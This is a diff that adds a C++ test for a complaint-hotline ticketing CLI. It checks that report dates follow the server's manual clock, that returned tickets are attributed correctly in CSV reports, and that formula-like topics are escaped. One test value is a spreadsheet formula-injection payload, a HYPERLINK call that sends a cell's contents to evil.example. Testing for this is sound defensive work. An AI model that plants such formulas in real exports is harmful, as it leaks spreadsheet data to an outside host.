@@ -527,3 +527,89 @@ TEST_F(CliTest, AMangledTokenIsAUsageMistake) {
 
 }  // namespace
 }  // namespace hotline
+
+namespace hotline {
+namespace {
+
+// The cells of the CSV line that starts with `prefix`, or none.
+std::vector<std::string> CsvRow(const std::string& csv,
+                                const std::string& prefix) {
+  for (absl::string_view line : absl::StrSplit(csv, '\n')) {
+    if (absl::StartsWith(line, prefix)) return absl::StrSplit(line, ',');
+  }
+  return {};
+}
+
+// In rehearsal mode "today" is the server's day, not this machine's: a
+// daily report without --date and a report without a period use the
+// manual clock. A return counts in the returning department's row, the
+// tickets nobody holds have a key in the CSV, and a caller's topic that a
+// spreadsheet would evaluate is neutralised.
+TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
+  TempDir dir;
+  const std::string db = dir.File("hotline.db");
+  const std::string bureau = testing::BootstrapToken(db, "bureau");
+  ServerProcess server(
+      db, "", {"--clock=manual", "--start_time=2021-03-10T09:00:00+08:00"});
+  auto cli = [&](const std::vector<std::string>& args,
+                 const std::string& token) {
+    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
+                           dir);
+  };
+  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"},
+                bureau)
+                .exit_code,
+            0);
+  CliRun token =
+      cli({"token", "create", "department/housing", "--json"}, bureau);
+  ASSERT_EQ(token.exit_code, 0) << token.err;
+  const size_t at = token.out.find("\"secret\": \"");
+  ASSERT_NE(at, std::string::npos) << token.out;
+  const std::string housing =
+      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
+  const std::string evil = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"x\")";
+  for (const std::string& topic : {evil, std::string("噪音")}) {
+    CliRun created = cli(
+        {"ticket", "create", "--type", "complaint", "--topic", topic, "--title",
+         "夜间施工", "--content", "每晚", "--dispatch_to", "housing"},
+        bureau);
+    ASSERT_EQ(created.exit_code, 0) << created.err;
+  }
+  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
+  CliRun daily = cli({"daily", "submit", "1", "--progress", "已约谈"}, housing);
+  EXPECT_EQ(daily.exit_code, 0) << daily.err;
+  EXPECT_TRUE(absl::StrContains(daily.out, "for 2021-03-10")) << daily.out;
+  CliRun returned =
+      cli({"ticket", "return", "2", "--reason", "属于市场监管局职责"}, housing);
+  ASSERT_EQ(returned.exit_code, 0) << returned.err;
+
+  // housing's own report: this (the server's) month, its return counted.
+  CliRun mine = cli({"report", "--format", "csv"}, housing);
+  ASSERT_EQ(mine.exit_code, 0) << mine.err;
+  const std::vector<std::string> total = CsvRow(mine.out, "total,housing,");
+  ASSERT_EQ(total.size(), 21u) << mine.out;
+  EXPECT_EQ(total[2], "1") << mine.out;   // received: ticket 1 is housing's
+  EXPECT_EQ(total[12], "1") << mine.out;  // returns: ticket 2
+  CliRun zh = cli({"report", "--format", "zh"}, housing);
+  EXPECT_TRUE(absl::StartsWith(zh.out, "2021年3月1日至2021年3月31日"))
+      << zh.out;
+
+  CliRun all = cli({"report", "--format", "csv", "--top", "5"}, bureau);
+  ASSERT_EQ(all.exit_code, 0) << all.err;
+  const std::vector<std::string> row =
+      CsvRow(all.out, "department,departments/housing,");
+  ASSERT_EQ(row.size(), 21u) << all.out;
+  EXPECT_EQ(row[12], "1") << all.out;
+  const std::vector<std::string> nobody =
+      CsvRow(all.out, "department,(not dispatched),");
+  ASSERT_EQ(nobody.size(), 21u) << all.out;
+  EXPECT_EQ(nobody[2], "1") << all.out;   // ticket 2, returned
+  EXPECT_EQ(nobody[12], "0") << all.out;  // the return is housing's
+  EXPECT_TRUE(absl::StrContains(all.out,
+                                "\ntopic,\"'=HYPERLINK(\"\"http://evil.example/"
+                                "?q=\"\"&A1,\"\"x\"\")\",1,"))
+      << all.out;
+}
+
+}  // namespace
+}  // namespace hotline
